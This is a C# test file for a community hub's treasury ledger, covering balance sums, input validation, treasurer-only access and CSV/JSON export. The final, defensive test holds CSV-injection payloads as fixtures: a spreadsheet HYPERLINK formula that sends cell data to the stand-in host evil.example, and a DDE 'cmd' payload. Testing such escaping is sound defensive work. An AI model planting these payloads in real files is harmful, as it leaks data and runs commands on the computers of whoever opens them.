using System.Net;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsolidarity.Hub.Data.Commons;
using Microsolidarity.Hub.Features.Commons;
using Microsolidarity.Hub.Platform;

namespace Microsolidarity.Hub.Tests.Features.Commons;

[Collection("commons")]
public sealed class LedgerTests(CommonsFixture commons)
{
    private Task<IReadOnlyDictionary<string, long>> BalancesAsync() =>
        commons.RunAsync<LedgerBalances, IReadOnlyDictionary<string, long>>(b => b.ForFundAsync(CommonsFunds.Commons));

    /// <summary>
    /// The ledger's one promise, checked on the real database: for random sequences of every kind of
    /// entry (payments, expenses, fees, transfers both ways, corrections, refused bad input), the
    /// balance of each currency is exactly the sum of what was accepted.
    /// </summary>
    [Fact]
    public async Task Balance_RandomSequencesOfEntries_EqualsSumPerCurrency()
    {
        var (treasurer, _) = await commons.PersonAsync("Treasurer", CommonsRoleKind.Treasurer);
        var (member, _) = await commons.PersonAsync("Payer");
        var pledges = new Dictionary<string, Guid>();
        foreach (var currency in new[] { "EUR", "USD" })
        {
            var (_, id) = await commons.RunAsync<PledgeContribution, (Outcome, Guid?)>(op => op.RunAsync(member.Id, 300, currency, monthly: false));
            pledges[currency] = id!.Value;
        }
        var random = new Random(20261126);
        var currencies = new[] { "EUR", "USD", "GBP", "XYZ" };
        var kinds = new[] { LedgerKind.Expense, LedgerKind.Fee, LedgerKind.Transfer, LedgerKind.Contribution };
        for (var run = 0; run < 25; run++)
        {
            var expected = new Dictionary<string, long>(await BalancesAsync());
            var accepted = new List<Guid>();
            var steps = random.Next(1, 14);
            for (var step = 0; step < steps; step++)
            {
                var currency = currencies[random.Next(currencies.Length)];
                // Mostly sensible amounts, sometimes zero or negative: those must be refused and change nothing.
                var amount = random.Next(10) == 0 ? -random.Next(0, 1000) : random.Next(1, 1_000_000);
                var choice = random.Next(10);
                if (choice < 3 && pledges.TryGetValue(currency, out var pledge))
                {
                    var (outcome, id) = await commons.RunAsync<RecordPayment, (Outcome, Guid?)>(op => op.ByTreasurerAsync(treasurer.Id, new RecordPayment.Input(pledge, amount, currency, DateTime.UtcNow)));
                    Assert.Equal(amount > 0, outcome.Succeeded);
                    if (outcome.Succeeded)
                    {
                        expected[currency] = expected.GetValueOrDefault(currency) + amount;
                        accepted.Add(id!.Value);
                    }
                }
                else if (choice < 8)
                {
                    var kind = kinds[random.Next(kinds.Length)];
                    var transferIn = random.Next(2) == 0;
                    var (outcome, id) = await commons.RunAsync<RecordLedgerEntry, (Outcome, Guid?)>(op => op.RunAsync(treasurer.Id,
                        new RecordLedgerEntry.Input(kind, amount, currency, $"step {run}.{step}", null, DateTime.UtcNow.AddDays(-random.Next(400)), transferIn)));
                    var valid = amount > 0 && Money.IsKnown(currency);
                    Assert.Equal(valid, outcome.Succeeded);
                    if (valid)
                    {
                        expected[currency] = expected.GetValueOrDefault(currency) + RecordLedgerEntry.Signed(kind, amount, transferIn);
                        accepted.Add(id!.Value);
                    }
                }
                else if (accepted.Count > 0)
                {
                    var target = accepted[random.Next(accepted.Count)];
                    var original = await commons.DbAsync(db => db.LedgerEntries.AsNoTracking().SingleAsync(e => e.Id == target));
                    var outcome = await commons.RunAsync<ReverseLedgerEntry>(op => op.RunAsync(treasurer.Id, target, "typed the wrong amount"));
                    Assert.True(outcome.Succeeded, outcome.Message);
                    expected[original.Currency] -= original.AmountMinor;
                    accepted.Remove(target);
                    // A second correction of the same entry is refused.
                    Assert.False((await commons.RunAsync<ReverseLedgerEntry>(op => op.RunAsync(treasurer.Id, target, "again"))).Succeeded);
                }
            }
            var actual = await BalancesAsync();
            var summed = await commons.DbAsync(db => db.LedgerEntries.Where(e => e.Fund == CommonsFunds.Commons).Select(e => new { e.Currency, e.AmountMinor }).ToListAsync());
            foreach (var currency in expected.Keys.Union(actual.Keys))
            {
                Assert.Equal(expected.GetValueOrDefault(currency), actual.GetValueOrDefault(currency));
                Assert.Equal(summed.Where(e => e.Currency == currency).Sum(e => e.AmountMinor), actual.GetValueOrDefault(currency));
            }
            Assert.False(actual.ContainsKey("XYZ"));
        }
    }

    [Fact]
    public async Task RecordEntry_BadInputOrNotTreasurer_ExplainsAndSavesNothing()
    {
        var (treasurer, client) = await commons.PersonAsync("Keeper", CommonsRoleKind.Treasurer);
        var (member, memberClient) = await commons.PersonAsync("Curious");
        var before = await commons.DbAsync(db => db.LedgerEntries.CountAsync());

        var (zero, zeroPage) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string> { ["Kind"] = "Expense", ["Amount"] = "0", ["Currency"] = "EUR", ["Description"] = "Nothing" }, "Entry");
        Assert.True(zero.StatusCode == HttpStatusCode.OK, zero.StatusCode + client.LastHtml);
        Assert.True(zeroPage.QuerySelector("#entry-amount-error")!.TextContent.Contains("above zero"), zeroPage.QuerySelector("main")!.TextContent);
        var (_, negativePage) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string> { ["Kind"] = "Expense", ["Amount"] = "-5", ["Currency"] = "EUR", ["Description"] = "Refund?" }, "Entry");
        Assert.Contains("above zero", negativePage.QuerySelector("#entry-amount-error")!.TextContent);
        var (_, currencyPage) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string> { ["Kind"] = "Expense", ["Amount"] = "5", ["Currency"] = "DOGE", ["Description"] = "Coins" }, "Entry");
        Assert.Contains("not a currency", currencyPage.QuerySelector("#entry-currency-error")!.TextContent);
        var (_, textPage) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string> { ["Kind"] = "Expense", ["Amount"] = "5.555", ["Currency"] = "EUR", ["Description"] = "Fractions" }, "Entry");
        Assert.Contains("at most two decimals", textPage.QuerySelector("#entry-amount-error")!.TextContent);
        Assert.Equal("5.555", textPage.QuerySelector("#entry-amount")!.GetAttribute("value"));

        var (forbidden, _) = await memberClient.GetAsync("/commons/treasury");
        Assert.Equal(HttpStatusCode.Forbidden, forbidden.StatusCode);
        var (refused, _) = await commons.RunAsync<RecordLedgerEntry, (Outcome, Guid?)>(op => op.RunAsync(member.Id, new RecordLedgerEntry.Input(LedgerKind.Expense, 500, "EUR", "Mine", null, DateTime.UtcNow)));
        Assert.False(refused.Succeeded);
        Assert.Equal(before, await commons.DbAsync(db => db.LedgerEntries.CountAsync()));
    }

    [Fact]
    public async Task Export_CsvAndJson_HoldEveryEntryForTreasurersOnly()
    {
        var (treasurer, client) = await commons.PersonAsync("Exporter", CommonsRoleKind.Treasurer);
        var (_, member) = await commons.PersonAsync("Reader");
        var (created, _) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string>
        {
            ["Kind"] = "Expense",
            ["Amount"] = "42.50",
            ["Currency"] = "USD",
            ["Description"] = "Call facilitation, \"March\"",
            ["Category"] = "facilitation",
            ["Date"] = "2026-03-01",
        }, "Entry");
        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
        var count = await commons.DbAsync(db => db.LedgerEntries.CountAsync());

        var csv = await client.Http.GetStringAsync("/commons/ledger.csv");
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("id,fund,currency,amount,kind", lines[0]);
        Assert.Equal(count + 1, lines.Length);
        Assert.Contains(lines, l => l.Contains("-42.50") && l.Contains("\"Call facilitation, \"\"March\"\"\"") && l.Contains("2026-03-01T12:00:00Z"));

        var json = JsonDocument.Parse(await client.Http.GetStringAsync("/commons/ledger.json"));
        Assert.Equal(count, json.RootElement.GetArrayLength());
        Assert.Contains(json.RootElement.EnumerateArray(), e => e.GetProperty("amount").GetString() == "-42.50" && e.GetProperty("recordedBy").GetString() == "Exporter");

        Assert.Equal(HttpStatusCode.Forbidden, (await member.Http.GetAsync("/commons/ledger.csv")).StatusCode);
        Assert.Equal(HttpStatusCode.Redirect, (await commons.Hub.NewClient().Http.GetAsync("/commons/ledger.json")).StatusCode);
    }

    /// <summary>
    /// CSV injection: text that a treasurer typed or an imported file carried, starting with =, +, -, @,
    /// tab or CR, leaves the hub as a quoted cell with a leading ' (OWASP's rule), so a spreadsheet shows
    /// it as text instead of running it. The database keeps what was typed; amounts stay numbers.
    /// </summary>
    [Fact]
    public async Task Export_CellsThatLookLikeFormulas_AreWrittenAsTextAndTheDatabaseKeepsTheOriginal()
    {
        var (treasurer, client) = await commons.PersonAsync("Formulas", CommonsRoleKind.Treasurer);
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
        var (created, _) = await client.SubmitAsync("/commons/treasury", new Dictionary<string, string>
        {
            ["Kind"] = "Expense",
            ["Amount"] = "12.50",
            ["Currency"] = "EUR",
            ["Description"] = hyperlink,
            ["Category"] = "@SUM(1+1)",
            ["Date"] = "2026-04-01",
        }, "Entry");
        Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
        const string imported = "+1+cmd|' /C calc'!A0";
        var file = "\"Effective Date & Time\",\"Transaction ID\",\"Description\",\"Kind\",\"Amount\",\"Currency\",\"Host Currency\"\n"
            + "\"2026-04-02T10:00:00.000Z\",\"formula-tx-1\",\"" + imported.Replace("\"", "\"\"") + "\",\"CONTRIBUTION\",\"3.00\",\"EUR\",\"EUR\"\n"
            + "\"2026-04-02T11:00:00.000Z\",\"formula-tx-2\",\"-2+3\",\"CONTRIBUTION\",\"4.00\",\"EUR\",\"EUR\"";
        var (_, outcome) = await commons.RunAsync<ImportOpenCollective, (ImportOpenCollective.Preview?, Outcome)>(i => i.RunAsync(treasurer.Id, file, ImportOpenCollective.PlatformDefault));
        Assert.True(outcome.Succeeded, outcome.Message);

        // The database holds the text as it came: the protection belongs to the file, not the data.
        Assert.Equal(hyperlink, await commons.DbAsync(db => db.LedgerEntries.Where(e => e.Category == "@sum(1+1)").Select(e => e.Description).SingleAsync()));
        Assert.Equal(imported, await commons.DbAsync(db => db.LedgerEntries.Where(e => e.ExternalId == "opencollective:formula-tx-1").Select(e => e.Description).SingleAsync()));

        var csv = await client.Http.GetStringAsync("/commons/ledger.csv");
        Assert.Contains(",-12.50,Expense,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",\"'@sum(1+1)\",", csv);
        Assert.Contains(",3.00,Contribution,\"'+1+cmd|' /C calc'!A0\",", csv);
        Assert.Contains(",4.00,Contribution,\"'-2+3\",", csv);
        // No cell anywhere starts with a formula character unless it is a number the hub wrote.
        foreach (var cell in csv.Split("\r\n").SelectMany(l => l.Split(',')))
        {
            Assert.False(cell.Length > 0 && "=+@\t\r".Contains(cell[0]), cell);
            Assert.False(cell.StartsWith('-') && !decimal.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _), cell);
        }
    }
}
